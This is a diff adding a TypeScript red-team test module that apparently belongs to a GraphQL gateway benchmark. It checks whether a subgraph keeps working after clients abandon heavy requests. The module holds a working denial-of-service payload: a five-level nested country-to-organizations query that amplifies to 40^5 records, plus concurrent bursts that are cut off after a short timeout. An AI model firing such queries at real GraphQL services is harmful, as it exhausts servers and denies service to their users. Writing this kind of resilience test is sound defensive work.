@@ -1,0 +1,95 @@
+import type { GraphProcesses } from '../bench/processes';
+import { post, type Attack } from './attack';
+
+/** Issue 15, item 1: a heavy request through the gateway that its client abandons; does the subgraph stop? */
+
+const ORGANIZATIONS = 40;
+
+/** Country → organizations → country ... 5 lists deep: 40^5 organizations for a member of 40 in one country. */
+const NESTED =
+  '{ country(code: "GT") { organizations { name country { organizations { name country { organizations { name ' +
+  'country { organizations { name country { organizations { name } } } } } } } } } } }';
+
+async function signUp(url: string): Promise<string> {
+  const input = { email: `abandon.${Date.now()}@redteam.example`, password: 'a long enough password', name: 'Abandoner' };
+  const { body } = await post(url, 'mutation($i: SignUpInput!) { signUp(input: $i) { token } }', { i: input });
+  const token = typeof body === 'object' ? (body.data as { signUp?: { token: string } } | undefined)?.signUp?.token : undefined;
+  if (!token) throw new Error(`sign-up failed: ${JSON.stringify(body).slice(0, 200)}`);
+  return token;
+}
+
+/** What the edge accepts (each build prices it its own way): organizations → country → organizations, 3 lists deep. */
+const WIDE = '{ organizations(first: 100) { nodes { name country { organizations { name country { organizations { name } } } } } } }';
+
+/** Sends `query` from `clients` clients at once, each leaving after `ms`; how many were answered before. */
+async function burst(url: string, query: string, auth: Record<string, string>, clients: number, ms: number): Promise<number> {
+  const answered = await Promise.all(
+    Array.from({ length: clients }, () =>
+      fetch(url, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', ...auth },
+        body: JSON.stringify({ query }),
+        signal: AbortSignal.timeout(ms),
+      }).then(
+        async (response) => (await response.text(), 1),
+        () => 0,
+      ),
+    ),
+  );
+  return answered.reduce<number>((sum, one) => sum + one, 0);
+}
+
+/** Signs up a member of ORGANIZATIONS PENDING organizations in GT (visible to it alone); its Authorization header. */
+async function member(url: string, log: (line: string) => void): Promise<Record<string, string>> {
+  const auth = { authorization: `Bearer ${await signUp(url)}` };
+  const register = 'mutation($i: OrganizationInput!) { registerOrganization(input: $i) { id } }';
+  for (let i = 0; i < ORGANIZATIONS; i += 1) {
+    await post(url, register, { i: { name: `Organización abandonada ${i}`, kind: 'NGO', country: 'GT' } }, auth);
+  }
+  log(`${ORGANIZATIONS} organizations registered`);
+  return auth;
+}
+
+const abandoned: Attack = {
+  name: 'abandoned',
+  summary: `item 1: a member of ${ORGANIZATIONS} PENDING organizations in GT asks country → organizations 5 deep and leaves after 3 s, twice`,
+  target: 'organizations',
+  run: async ({ gatewayUrl: url }: GraphProcesses, log) => {
+    const auth = await member(url, log);
+    const seen: string[] = [];
+    for (let round = 0; round < 2; round += 1) {
+      const started = Date.now();
+      const outcome = await fetch(url, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', ...auth },
+        body: JSON.stringify({ query: NESTED }),
+        signal: AbortSignal.timeout(3000),
+      }).then(
+        async (response) => `${response.status} ${(await response.text()).slice(0, 120)}`,
+        () => 'abandoned',
+      );
+      seen.push(`${outcome} after ${Date.now() - started} ms`);
+      log(seen[seen.length - 1]);
+      // The runner probes the subgraph meanwhile: does it come back, or keep building what no one reads?
+      await new Promise((resolve) => setTimeout(resolve, 10_000));
+    }
+    return seen.join('; ');
+  },
+};
+
+const abandonedWide: Attack = {
+  name: 'abandoned-wide',
+  summary: `item 1: the same member, 10 clients at once ask organizations → country → organizations (what the edge accepts) and leave after 300 ms, 5 times`,
+  target: 'organizations',
+  run: async ({ gatewayUrl: url }: GraphProcesses, log) => {
+    const auth = await member(url, log);
+    let answered = 0;
+    for (let round = 0; round < 5; round += 1) {
+      answered += await burst(url, WIDE, auth, 10, 300);
+      await new Promise((resolve) => setTimeout(resolve, 2000));
+    }
+    return `${answered} of 50 requests answered within 300 ms, the others abandoned`;
+  },
+};
+
+export const ABANDONED_ATTACKS: Attack[] = [abandoned, abandonedWide];
